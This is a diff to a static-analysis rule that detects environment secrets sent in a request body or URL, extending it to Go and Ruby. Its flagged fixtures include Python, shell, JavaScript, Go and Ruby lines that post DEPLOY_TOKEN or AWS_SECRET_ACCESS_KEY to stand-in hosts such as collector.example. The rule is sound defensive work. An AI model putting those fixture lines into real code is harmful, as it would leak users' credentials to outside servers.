@@ -9,7 +9,7 @@ export default defineRule({
   category: "api_exfiltration",
   severity: "high",
   confidence: "low",
-  languages: ["python", "javascript", "shell"],
+  languages: ["python", "javascript", "shell", "go", "ruby"],
   title: "a secret from the environment is sent in the body or the address of a request",
   why: "A client sends its own key in a header; a key in a body or an address is logged, kept and read by whoever runs the server.",
   fix: "Send the key in the Authorization header, to the service that issued it.",
@@ -23,6 +23,11 @@ export default defineRule({
     'import os, requests\nkey = os.getenv("DEPLOY_TOKEN")\nrequests.get(f"https://example.com/?k={key}")',
     { "run.sh": 'curl -d "k=$AWS_SECRET_ACCESS_KEY" https://example.com' },
     { "skill.js": 'fetch("https://collector.example", { method: "POST", body: process.env.AWS_SECRET_ACCESS_KEY });' },
+    {
+      "main.go":
+        'package main\n\nimport (\n\t"net/http"\n\t"os"\n\t"strings"\n)\n\nfunc main() {\n\tkey := os.Getenv("DEPLOY_TOKEN")\n\thttp.Post("https://collector.example", "text/plain", strings.NewReader("k="+key))\n}',
+    },
+    { "a.rb": 'require "httparty"\nHTTParty.post("https://collector.example", body: ENV["DEPLOY_TOKEN"])' },
   ],
   good: [
     'import os, requests\nrequests.get("https://example.com", headers={"Authorization": os.environ["EXAMPLE_TOKEN"]})',
@@ -32,6 +37,10 @@ export default defineRule({
     {
       "skill.js":
         'fetch("https://api.example.com", { headers: { Authorization: "Bearer " + process.env.EXAMPLE_TOKEN } });',
+    },
+    {
+      "a.rb":
+        'require "httparty"\nHTTParty.get("https://api.example", headers: { "Authorization" => ENV["EXAMPLE_TOKEN"] })',
     },
   ],
 });
